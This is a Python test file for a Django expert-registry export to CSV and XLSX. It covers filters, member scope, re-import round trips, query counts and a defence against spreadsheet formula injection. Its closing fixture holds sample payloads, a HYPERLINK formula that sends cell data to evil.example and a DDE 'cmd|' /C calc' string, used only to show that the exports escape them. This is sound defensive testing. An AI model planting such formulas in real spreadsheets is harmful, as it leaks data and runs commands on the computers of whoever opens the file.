"""Export of a filtered expert search to CSV and XLSX: filters and scope apply, the file can be
imported again unchanged, and the number of queries does not grow with the rows."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from experts.importing import COLUMN_NAMES, import_experts
from tests import factories as base
from tests.experts import factories as ef
from tests.experts.test_import import GOOD, to_csv

pytestmark = pytest.mark.django_db


def ours(rows):
    """The fixture's experts (the factories add founders and evaluators with ``ACE-`` ids)."""
    return {row["external_id"] for row in rows if not row["external_id"].startswith("ACE-")}


def csv_rows(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content)))


def xlsx_rows(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def people():
    thai = ef.ExpertFactory(external_id="TH-1")
    ef.fully_accredited(thai, "DF")
    japanese = ef.ExpertFactory(
        external_id="JP-1", person=base.PersonFactory(administration=base.member("JP"), nationality="JP")
    )
    ef.first_step(japanese, "ET-HS")
    ef.ExpertFactory(external_id="TH-2", kind="consultant")
    return thai, japanese


def test_csv_has_the_import_columns_and_one_row_per_accreditation(client_as, secretariat, people):
    rows = csv_rows(client_as(secretariat).get(reverse("experts:export-csv")))

    assert list(rows[0]) == COLUMN_NAMES
    by_id = {(row["external_id"], row["area"]): row for row in rows}
    assert by_id[("TH-1", "DF")]["stage"] == "fully_accredited"
    assert by_id[("JP-1", "ET-HS")]["stage"] == "first_step"
    assert by_id[("JP-1", "ET-HS")]["administration"] == "JP"
    assert ("TH-2", "") in by_id


def test_the_search_filters_apply(client_as, secretariat, people):
    client = client_as(secretariat)
    url = reverse("experts:export-csv")

    assert ours(csv_rows(client.get(url, {"category": "DF"}))) == {"TH-1"}
    assert ours(csv_rows(client.get(url, {"administration": "JP"}))) == {"JP-1"}
    assert ours(csv_rows(client.get(url, {"kind": "consultant"}))) == {"TH-2"}
    assert ours(csv_rows(client.get(url, {"stage": "first_step"}))) == {"JP-1"}


def test_a_member_administration_exports_only_its_own_experts(client_as, member_user, people):
    rows = csv_rows(client_as(member_user).get(reverse("experts:export-csv")))
    assert ours(rows) == {"TH-1", "TH-2"}
    rows = xlsx_rows(client_as(member_user).get(reverse("experts:export-xlsx")))
    assert ours(rows) == {"TH-1", "TH-2"}


def test_signed_out_visitors_cannot_export(client):
    response = client.get(reverse("experts:export-csv"))
    assert response.status_code == 302


def test_xlsx_filters_apply(client_as, secretariat, people):
    rows = xlsx_rows(client_as(secretariat).get(reverse("experts:export-xlsx"), {"region": "AP"}))
    assert list(rows[0]) == COLUMN_NAMES
    assert ours(rows) == {"TH-1", "JP-1", "TH-2"}
    rows = xlsx_rows(client_as(secretariat).get(reverse("experts:export-xlsx"), {"category": "ET"}))
    assert ours(rows) == {"JP-1"}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_imports_again_without_any_change(client_as, secretariat, kind):
    assert import_experts(file=to_csv(GOOD), filename="x.csv", dry_run=False, by=secretariat).ok
    expert = ef.ExpertFactory(external_id="PLAT-9")
    ef.fully_accredited(expert, "CMA")
    response = client_as(secretariat).get(reverse(f"experts:export-{kind}"))
    content = b"".join(response.streaming_content) if kind == "csv" else response.content

    report = import_experts(file=content, filename=f"export.{kind}", dry_run=True, by=secretariat)

    assert report.ok, report.errors
    assert report.summary["expert"]["created"] == report.summary["expert"]["updated"] == 0
    assert report.summary["accreditation"]["created"] == report.summary["accreditation"]["updated"] == 0
    assert report.summary["accreditation"]["unchanged"] >= 3


def test_the_query_count_does_not_grow_with_the_rows(client_as, secretariat, django_assert_max_num_queries):
    client = client_as(secretariat)
    for _ in range(3):
        ef.fully_accredited(ef.ExpertFactory(), "DF")
    with django_assert_max_num_queries(8):
        csv_rows(client.get(reverse("experts:export-csv")))
    for _ in range(12):
        ef.first_step(ef.ExpertFactory(), "CMA")
    with django_assert_max_num_queries(8):
        assert len(csv_rows(client.get(reverse("experts:export-csv")))) > 15


def test_api_export_in_both_formats_with_filters_and_scope(api_as, secretariat, member_user, people):
    response = api_as(secretariat).get("/api/v1/experts/export/", {"format": "csv", "category": "ET"})
    assert response["Content-Type"].startswith("text/csv")
    assert ours(csv_rows(response)) == {"JP-1"}
    response = api_as(member_user).get("/api/v1/experts/export/", {"format": "xlsx"})
    assert ours(xlsx_rows(response)) == {"TH-1", "TH-2"}
    assert api_as(secretariat).get("/api/v1/experts/export/").status_code == 200


def test_page_export_with_an_invalid_filter_is_refused_and_sends_back_to_the_search(client_as, secretariat, people):
    response = client_as(secretariat).get(reverse("experts:export-csv"), {"administration": "ZZ"})

    assert response.status_code == 302
    assert response["Location"] == reverse("experts:search") + "?administration=ZZ"
    messages = [str(message) for message in response.wsgi_request._messages]
    assert any("administration" in message for message in messages)


def test_api_export_with_an_invalid_filter_answers_400_with_the_filter_errors(api_as, secretariat, people):
    import json

    response = api_as(secretariat).get("/api/v1/experts/export/", {"format": "csv", "administration": "ZZ"})

    assert response.status_code == 400
    assert "administration" in json.loads(response.content)["error"]["fields"]


def test_candidate_columns_are_exported_and_the_export_imports_again_unchanged(client_as, secretariat):
    from tests.experts.test_import import CANDIDATE, row, run

    assert run([row("C-1", **CANDIDATE)], secretariat=secretariat).ok

    rows = [
        r for r in csv_rows(client_as(secretariat).get(reverse("experts:export-csv"))) if r["external_id"] == "C-1"
    ]

    assert rows[0]["candidate_topic"] == "CAND-NII"
    assert rows[0]["candidate_region"] == "AP"
    assert rows[0]["candidate_capacity_building"] == "no"
    assert rows[0]["candidate_english"] == "yes"
    again = run(rows, secretariat=secretariat)
    assert again.ok, again.errors
    assert again.summary["expert"]["unchanged"] == 1


# --- Formulas are neutralised (issue 9) -------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?d="&H2,"CV")'


@pytest.fixture
def evil_expert():
    person = base.PersonFactory(first_name=EVIL, last_name="@SUM(1+1)", current_post="-2+3", phone="+66 2 123 4567")
    return ef.ExpertFactory(external_id="EVIL-1", person=person, biography="\tcmd|' /C calc'!A0")


def test_the_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(client_as, secretariat, evil_expert):
    rows = csv_rows(client_as(secretariat).get(reverse("experts:export-csv")))
    row = next(r for r in rows if r["external_id"] == "EVIL-1")

    assert row["first_name"] == "'" + EVIL
    assert row["last_name"] == "'@SUM(1+1)"
    assert row["biography"].startswith("'\t")
    assert row["phone"] == "+66 2 123 4567"  # a phone number cannot call anything: kept for the re-import
    assert row["current_post"] == "-2+3"


def test_the_xlsx_export_writes_text_never_a_formula(client_as, secretariat, evil_expert):
    response = client_as(secretariat).get(reverse("experts:export-xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("external_id")].value == "EVIL-1")
    first_name = row[header.index("first_name")]

    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
    assert first_name.data_type == "s"
    assert first_name.value == EVIL  # unchanged, so it imports again as it was
    assert first_name.quotePrefix
    assert row[header.index("phone")].value == "+66 2 123 4567"


def test_safe_cell_escapes_every_formula_trigger():
    from wcocb.exporting import safe_cell

    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{trigger}cmd") == f"'{trigger}cmd"
    assert safe_cell("Garcia") == "Garcia"
    assert safe_cell("") == ""
    assert safe_cell("+66 2 123 4567") == "+66 2 123 4567"
    assert safe_cell("-5") == "-5"
    assert safe_cell("+1+A1") == "'+1+A1"
    assert safe_cell(3) == 3
